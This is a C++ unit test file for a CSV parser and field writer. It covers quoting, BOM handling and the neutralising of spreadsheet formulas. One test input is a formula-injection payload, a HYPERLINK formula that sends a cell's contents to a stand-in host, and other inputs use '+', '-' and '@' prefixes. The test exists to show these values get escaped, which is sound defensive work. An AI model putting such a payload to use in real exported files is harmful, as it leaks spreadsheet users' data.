#include "common/csv.h"

#include "gtest/gtest.h"

namespace saima {
namespace {

TEST(CsvTest, ParsesQuotedFieldsAndBom) {
  auto rows = ParseCsv("\xEF\xBB\xBF名称,金额\n\"龙泉,市\",\"他说\"\"好\"\"\"\n空,\n");
  ASSERT_TRUE(rows.ok()) << rows.status();
  ASSERT_EQ(rows->size(), 3u);
  EXPECT_EQ((*rows)[0][0], "名称");
  EXPECT_EQ((*rows)[1][0], "龙泉,市");
  EXPECT_EQ((*rows)[1][1], "他说\"好\"");
  ASSERT_EQ((*rows)[2].size(), 2u);
  EXPECT_EQ((*rows)[2][1], "");
}

TEST(CsvTest, RejectsUnterminatedQuote) { EXPECT_FALSE(ParseCsv("a,\"b\n").ok()); }

TEST(CsvTest, QuotesOnlyWhenNeeded) {
  EXPECT_EQ(CsvField("abc"), "abc");
  EXPECT_EQ(CsvField("a,b"), "\"a,b\"");
  EXPECT_EQ(CsvField("a\"b"), "\"a\"\"b\"");
}

TEST(CsvTest, NothingIsReadAsAFormula) {
  EXPECT_EQ(CsvField("=HYPERLINK(\"http://x?d=\"&A1,\"点此\")"),
            "\"'=HYPERLINK(\"\"http://x?d=\"\"&A1,\"\"点此\"\")\"");
  EXPECT_EQ(CsvField("+1+2"), "'+1+2");
  EXPECT_EQ(CsvField("-2+3"), "'-2+3");
  EXPECT_EQ(CsvField("@SUM(A1)"), "'@SUM(A1)");
  EXPECT_EQ(CsvField("\tx"), "'\tx");
  EXPECT_EQ(CsvField("\rx"), "\"'\rx\"");
  // Numbers stay numbers.
  EXPECT_EQ(CsvField("-12"), "-12");
  EXPECT_EQ(CsvField("+3.5"), "+3.5");
  EXPECT_EQ(CsvField("-7.25%"), "-7.25%");
  EXPECT_EQ(CsvField("-"), "'-");
  EXPECT_EQ(CsvField("项目=1"), "项目=1");
}

}  // namespace
}  // namespace saima
